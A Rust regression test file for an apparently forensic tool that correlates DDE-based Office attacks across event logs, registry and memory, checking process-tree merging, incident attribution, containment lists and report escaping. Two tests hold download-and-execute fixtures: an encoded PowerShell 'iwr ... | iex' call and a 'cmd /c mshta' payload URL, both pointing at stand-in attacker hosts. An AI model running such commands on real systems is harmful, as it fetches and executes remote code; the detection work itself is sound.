//! Regressions from the review of the correlation: each test is a case that went wrong (its
//! comment says how, and where the code was then) and asserts what a T2 should get instead.

use super::*;

const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";

fn doc_with(path: &str, sha: &str) -> Event {
    let mut event = document(path);
    event.fields.sha256 = Some(sha.repeat(32));
    event
}

fn office_open(seconds: i64, log: &str, pid: u64, guid: Option<&str>, named: &str) -> Event {
    let mut open = start(
        seconds,
        log,
        None,
        WORD,
        pid,
        ("explorer.exe", 3000),
        guid.map(|g| (g, "{E}")),
    );
    if guid.is_none() {
        open.fields.process_guid = None;
        open.fields.parent_process_guid = None;
    }
    open.data_type = "ddesweep:eventlog:office_document_open";
    open.fields.document = Some(named.to_owned());
    open
}

fn incident_of<'a>(events: &'a [Event], image: &str) -> Option<&'a str> {
    events
        .iter()
        .find(|e| {
            e.fields.image.as_deref() == Some(image)
                && e.data_type == "ddesweep:eventlog:process_start"
        })
        .and_then(|e| e.incident.as_deref())
}

fn incident_of_doc<'a>(events: &'a [Event], path: &str) -> Option<&'a str> {
    events
        .iter()
        .find(|e| e.source_path == path && e.data_type == "ddesweep:document:dde_field")
        .and_then(|e| e.incident.as_deref())
}

/// processes.rs:393: two WINWORD processes of the same Security log that share a PID (reuse, a
/// day apart) become one tree, so the second document's child is filed under the first
/// document's incident (high confidence).
#[test]
fn pid_reuse_merges_two_word_processes_of_one_log() {
    let events = vec![
        doc_with("C/Users/dave/Downloads/A.docx", "aa"),
        doc_with("C/Users/dave/Downloads/B.docx", "bb"),
        office_open(0, SECURITY, 4000, None, r"C:\Users\dave\Downloads\A.docx"),
        start(
            10,
            SECURITY,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\cmd.exe",
            5000,
            (WORD, 4000),
            None,
        ),
        office_open(
            86_400,
            SECURITY,
            4000,
            None,
            r"C:\Users\dave\Downloads\B.docx",
        ),
        start(
            86_410,
            SECURITY,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\mshta.exe",
            5100,
            (WORD, 4000),
            None,
        ),
    ];
    let (events, _) = analyse_rows(events);
    let a = incident_of_doc(&events, "C/Users/dave/Downloads/A.docx");
    let b = incident_of_doc(&events, "C/Users/dave/Downloads/B.docx");
    let mshta = incident_of(&events, r"C:\Windows\System32\mshta.exe");
    assert_ne!(
        mshta, a,
        "mshta (child of B's Word) filed under A's incident"
    );
    assert_eq!(mshta, b);
}

/// processes.rs:378-396: a root whose parent GUID is not the tree's falls through to the PID
/// test: two Sysmon-known Word processes (distinct GUIDs) with a reused PID merge.
#[test]
fn distinct_parent_guids_still_merge_by_pid() {
    let events = vec![
        doc_with("C/Users/dave/Downloads/A.docx", "aa"),
        doc_with("C/Users/dave/Downloads/B.docx", "bb"),
        office_open(
            0,
            SYSMON,
            4000,
            Some("{W1}"),
            r"C:\Users\dave\Downloads\A.docx",
        ),
        start(
            10,
            SYSMON,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\cmd.exe",
            5000,
            (WORD, 4000),
            Some(("{C1}", "{W1}")),
        ),
        office_open(
            86_400,
            SYSMON,
            4000,
            Some("{W2}"),
            r"C:\Users\dave\Downloads\B.docx",
        ),
        start(
            86_410,
            SYSMON,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\mshta.exe",
            5100,
            (WORD, 4000),
            Some(("{C2}", "{W2}")),
        ),
    ];
    let (events, report) = analyse_rows(events);
    assert_ne!(
        incident_of(&events, r"C:\Windows\System32\mshta.exe"),
        incident_of(&events, r"C:\Windows\System32\cmd.exe"),
        "{:#?}",
        report.hosts[0]
            .incidents
            .iter()
            .map(|i| &i.title)
            .collect::<Vec<_>>()
    );
}

/// processes.rs:332-336 and 365-370: a PID join has no upper time bound (the Office parent's PID
/// is entered with start i64::MIN): an unrelated process a week later whose parent reused the
/// PID becomes a "descendant" of the DDE chain (and its activity, IOCs, containment follow).
#[test]
fn pid_joins_have_no_lifetime_bound() {
    let events = vec![
        start(
            10,
            SECURITY,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\cmd.exe",
            5000,
            (WORD, 4000),
            None,
        ),
        // A week later: explorer.exe now holds PID 4000 and starts Teams.
        start(
            604_800,
            SECURITY,
            None,
            r"C:\Users\dave\AppData\Local\Microsoft\Teams\Teams.exe",
            7000,
            (r"C:\Windows\explorer.exe", 4000),
            None,
        ),
        // ... and PID 5000 is reused by a service that starts a child.
        start(
            604_900,
            SECURITY,
            None,
            r"C:\Windows\System32\backup.exe",
            7100,
            (r"C:\Windows\System32\svchost.exe", 5000),
            None,
        ),
    ];
    let (events, _) = analyse_rows(events);
    assert_eq!(
        incident_of(
            &events,
            r"C:\Users\dave\AppData\Local\Microsoft\Teams\Teams.exe"
        ),
        None
    );
    assert_eq!(
        incident_of(&events, r"C:\Windows\System32\backup.exe"),
        None
    );
}

/// chains.rs:99-107: the command-line join is a substring test on file names, first document
/// (by SHA-256 order) wins: `report.doc` "matches" a command line naming `report.docx`.
#[test]
fn command_line_join_matches_a_name_inside_another() {
    let mut child = start(
        10,
        SYSMON,
        Some("ddesweep.eventlog.office_child"),
        r"C:\Windows\System32\cmd.exe",
        5000,
        (WORD, 4000),
        Some(("{C}", "{W}")),
    );
    child.fields.parent_command_line = Some(format!(
        r#""{WORD}" /n "C:\Users\dave\Downloads\report.docx""#
    ));
    let events = vec![
        doc_with("C/Users/dave/Documents/report.doc", "aa"),
        doc_with("C/Users/dave/Downloads/report.docx", "bb"),
        child,
    ];
    let (events, _) = analyse_rows(events);
    assert_eq!(
        incident_of(&events, r"C:\Windows\System32\cmd.exe"),
        incident_of_doc(&events, "C/Users/dave/Downloads/report.docx")
    );
}

/// chains.rs:89-97 with documents.rs:111-120: the "identity" join takes the first of several
/// documents that only share the file name (score 1) and reports it with high confidence.
#[test]
fn identity_join_on_an_ambiguous_file_name_is_high_confidence() {
    let events = vec![
        doc_with("C/Users/dave/Desktop/old/invoice.docx", "aa"),
        doc_with("C/Users/dave/Downloads/invoice.docx", "bb"),
        office_open(0, SYSMON, 4000, Some("{W}"), r"\\fs01\finance\invoice.docx"),
        start(
            10,
            SYSMON,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\cmd.exe",
            5000,
            (WORD, 4000),
            Some(("{C}", "{W}")),
        ),
    ];
    let (_, report) = analyse_rows(events);
    let executed = report.hosts[0]
        .incidents
        .iter()
        .find(|i| i.rows.iter().any(|r| r.stage == Stage::Execution))
        .unwrap();
    assert_ne!(executed.confidence, Confidence::High, "{}", executed.title);
}

fn allow_dde(seconds: i64) -> Event {
    let mut event = row(
        seconds,
        "ddesweep:eventlog:registry_change",
        Severity::High,
        SYSMON,
        EventFields {
            registry_key: Some(
                r"HKU\S-1\Software\Microsoft\Office\16.0\Word\Security\AllowDDE".to_owned(),
            ),
            value: Some("DWORD (0x00000001)".to_owned()),
            ..EventFields::default()
        },
    );
    event.rule_id = Some("ddesweep.eventlog.word_allow_dde".to_owned());
    event
}

/// chains.rs:212-254 + verdict.rs:403: a setting alone escalates, but the same setting followed
/// by the user opening a (local, never-run) DDE document is "explained" by that investigate-only
/// incident: more evidence, lower verdict.
#[test]
fn setting_explained_by_a_non_escalating_incident_downgrades_the_host() {
    let mut mru = row(
        3600,
        "ddesweep:registry:office_mru",
        Severity::Info,
        "C/Users/dave/NTUSER.DAT",
        EventFields {
            document: Some(r"C:\Users\dave\Documents\Quote.docx".to_owned()),
            ..EventFields::default()
        },
    );
    mru.fields.computer_name = None;
    let (_, alone) = analyse_rows(vec![allow_dde(0)]);
    assert_eq!(alone.hosts[0].verdict, Verdict::Escalate);
    let (_, more) = analyse_rows(vec![
        allow_dde(0),
        doc_with("C/Users/dave/Documents/Quote.docx", "aa"),
        mru,
    ]);
    let verdict = more.hosts.iter().map(|h| h.verdict).max();
    assert_eq!(
        verdict,
        Some(Verdict::Escalate),
        "{:#?}",
        more.hosts
            .iter()
            .map(|h| (&h.host, &h.reasons))
            .collect::<Vec<_>>()
    );
}

/// chains.rs:235-245: a Word AllowDDE change is "explained" by whatever chain begins next, even
/// an Excel one that Word's setting cannot have enabled.
#[test]
fn word_setting_explained_by_an_excel_incident() {
    let excel = r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE";
    let (_, report) = analyse_rows(vec![
        allow_dde(0),
        start(
            3 * 86_400,
            SYSMON,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\cmd.exe",
            5000,
            (excel, 4000),
            Some(("{C}", "{X}")),
        ),
    ]);
    assert!(!report.hosts[0].containment.settings_to_revert[0].explained);
}

/// profiles/default.toml:416-418: the Equation Editor kill-bit removal (critical) is not an
/// enabling setting for correlation: alone it gives "investigate", is never listed to revert.
#[test]
fn kill_bit_removal_is_not_an_enabling_setting() {
    let mut kill = row(
        0,
        "ddesweep:eventlog:registry_change",
        Severity::Critical,
        SYSMON,
        EventFields {
            registry_key: Some(r"HKLM\SOFTWARE\Microsoft\Office\Common\COM Compatibility\{0002CE02-0000-0000-C000-000000000046}\Compatibility Flags".to_owned()),
            value: Some("DWORD (0x00000000)".to_owned()),
            ..EventFields::default()
        },
    );
    kill.rule_id = Some("ddesweep.eventlog.equation_editor_kill_bit".to_owned());
    let (_, report) = analyse_rows(vec![kill]);
    let host = &report.hosts[0];
    assert_eq!(host.verdict, Verdict::Escalate, "{:#?}", host.reasons);
    assert_eq!(host.containment.settings_to_revert.len(), 1);
}

/// rows.rs:69-74, containment.rs:146-183, chains.rs:64-79: users compare by account name only,
/// so the local `WKS-1\admin` and the domain `CORP\admin` become one account (one SID) to reset.
#[test]
fn local_and_domain_accounts_of_one_name_merge() {
    let mut a = start(
        10,
        SYSMON,
        Some("ddesweep.eventlog.office_child"),
        r"C:\Windows\System32\cmd.exe",
        5000,
        (WORD, 4000),
        Some(("{C1}", "{W1}")),
    );
    a.user = Some(r"CORP\admin".to_owned());
    a.fields.user_sid = Some("S-1-5-21-1-2-3-1104".to_owned());
    let mut b = start(
        5000,
        SYSMON,
        Some("ddesweep.eventlog.office_child"),
        r"C:\Windows\System32\mshta.exe",
        5100,
        (WORD, 4100),
        Some(("{C2}", "{W2}")),
    );
    b.user = Some(r"WKS-1\admin".to_owned());
    b.fields.user_sid = Some("S-1-5-21-9-9-9-500".to_owned());
    let (_, report) = analyse_rows(vec![a, b]);
    assert_eq!(
        report.hosts[0].containment.accounts.len(),
        2,
        "{:#?}",
        report.hosts[0].containment.accounts
    );
}

/// hosts.rs:130-146: incident ids of unattributed evidence use only the file name: two
/// evidence items `case1/disk.E01` and `case2/disk.E01` both number `UNATTRIBUTED-disk_E01-1`.
#[test]
fn unattributed_incident_ids_collide_across_evidence() {
    let mut one = doc_with("C/Users/a/x.docx", "aa");
    one.evidence = "case1/disk.E01".to_owned();
    let mut two = doc_with("C/Users/b/y.docx", "bb");
    two.evidence = "case2/disk.E01".to_owned();
    let mut events = vec![one, two];
    events.sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));
    let profile = crate::profile::load("default").unwrap_or_else(|e| panic!("{e}"));
    let facts: Vec<EvidenceFacts> = ["case1/disk.E01", "case2/disk.E01"]
        .iter()
        .map(|l| EvidenceFacts {
            label: (*l).to_owned(),
            ..EvidenceFacts::default()
        })
        .collect();
    let report = analyse(&mut events, &facts, &profile);
    let ids: Vec<&str> = report
        .hosts
        .iter()
        .flat_map(|h| h.incidents.iter().map(|i| i.id.as_str()))
        .collect();
    assert_eq!(ids.len(), 2);
    assert_ne!(ids[0], ids[1]);
}

/// iocs.rs:39-46: `-ec` (the alias the doc comment names, and PowerShell accepts) is not a
/// prefix of `encodedcommand`, so its URLs never become indicators.
#[test]
fn ec_alias_is_not_decoded() {
    use base64::Engine as _;
    let script: Vec<u8> = "iwr http://198.51.100.9/x.ps1|iex"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let encoded = base64::engine::general_purpose::STANDARD.encode(script);
    assert_eq!(
        urls_in(&format!("powershell -ec {encoded}")),
        vec!["http://198.51.100.9/x.ps1"]
    );
}

#[test]
fn time_window_overrides_a_known_non_dde_identity() {
    let mut mru = row(
        -60,
        "ddesweep:registry:office_mru",
        Severity::Info,
        "C/Users/dave/NTUSER.DAT",
        EventFields {
            document: Some(r"C:\Users\dave\Downloads\Prices.xlsx".to_owned()),
            ..EventFields::default()
        },
    );
    mru.fields.computer_name = None;
    let mut word_open = office_open(
        0,
        SYSMON,
        4000,
        Some("{W}"),
        r"C:\Users\dave\Documents\Minutes.docx",
    );
    word_open.fields.image = Some(WORD.to_owned());
    let events = vec![
        doc_with("C/Users/dave/Downloads/Prices.xlsx", "aa"),
        mru,
        word_open,
        start(
            10,
            SYSMON,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\cmd.exe",
            5000,
            (WORD, 4000),
            Some(("{C}", "{W}")),
        ),
    ];
    let (events, _) = analyse_rows(events);
    assert_ne!(
        incident_of(&events, r"C:\Windows\System32\cmd.exe"),
        incident_of_doc(&events, "C/Users/dave/Downloads/Prices.xlsx"),
        "Word's child (Word opened Minutes.docx) filed under Excel's Prices.xlsx"
    );
}

/// playbook.rs:316-344: one process seen by Sysmon 1 and Security 4688 counts twice in the
/// per-day activity (the office_children list dedupes it, the baseline does not).
#[test]
fn per_day_counts_one_process_twice() {
    let (_, report) = analyse_rows(vec![
        start(
            4,
            SYSMON,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\cmd.exe",
            5120,
            (WORD, 4412),
            Some(("{C}", "{W}")),
        ),
        start(
            4,
            SECURITY,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\cmd.exe",
            5120,
            (WORD, 4412),
            None,
        ),
    ]);
    let host = &report.hosts[0];
    assert_eq!(host.playbook.office_children.len(), 1);
    assert_eq!(host.playbook.activity_per_day[0].processes, 1);
}

/// containment.rs:38-42 + iocs.rs:211-215: the Mark of the Web's referrer (Outlook on the web)
/// becomes a domain to block: the checklist says to block the company's own mail service
/// (`office365.com`, `sharepoint.com`, `outlook.com` are not in `ioc_ignore_domains`).
#[test]
fn block_list_includes_the_mail_service_from_motw() {
    let path = "C/Users/dave/Downloads/Remit.docx";
    let mut motw = row(
        -3500,
        "ddesweep:file:mark_of_the_web",
        Severity::Info,
        path,
        EventFields {
            zone_id: Some(3),
            host_url: Some("https://attachments.office.net/owa/dave@corp.example/service.svc/s/GetFileAttachment?id=x".to_owned()),
            referrer_url: Some("https://outlook.office365.com/".to_owned()),
            ..EventFields::default()
        },
    );
    motw.fields.computer_name = None;
    let mut doc = document(path);
    doc.fields.zone_id = Some(3);
    doc.fields.referrer_url = Some("https://outlook.office365.com/".to_owned());
    let (_, report) = analyse_rows(vec![doc, motw]);
    let block = &report.hosts[0].containment.block;
    assert!(
        !block.iter().any(|b| b.contains("office365.com")),
        "{block:#?}"
    );
}

/// chains.rs:256-299: a 5-character document name is a needle (`n.len() >= 5` with a dot), so
/// any carved string holding it inside a longer name joins the incident (and gets `escalate`).
#[test]
fn short_document_names_join_unrelated_memory_strings() {
    let mut carved = row(
        100,
        "ddesweep:memory:string",
        Severity::Info,
        "mem.raw",
        EventFields {
            carved_text: Some(r"C:\Users\dave\Desktop\quarterly data.xlsx".to_owned()),
            ..EventFields::default()
        },
    );
    carved.tags.push("carved".to_owned());
    let mut doc = document("C/Users/dave/Downloads/a.xls");
    doc.fields.zone_id = Some(3);
    let (events, _) = analyse_rows(vec![doc, carved]);
    let memory = events
        .iter()
        .find(|e| e.data_type == "ddesweep:memory:string");
    assert_eq!(memory.and_then(|e| e.incident.as_deref()), None);
}

/// output/report/escape.rs:32-47 (md_text) as used for reasons, titles and narrative lines
/// (markdown.rs:142-147, report.md "What happened"): a bare payload URL stays a bare URL, which
/// GitHub/GitLab (extended autolinks) render as a clickable link to the attacker's server.
#[test]
fn markdown_prose_leaves_payload_urls_clickable() {
    let text = crate::output::report::escape::md_text(
        "DDE link in x.xlsx runs: cmd /c mshta http://198.51.100.23/pa.hta or www.evil.example/x",
    );
    assert!(!text.contains("http://198.51.100.23"), "{text}");
    assert!(!text.contains("www.evil.example"), "{text}");
}
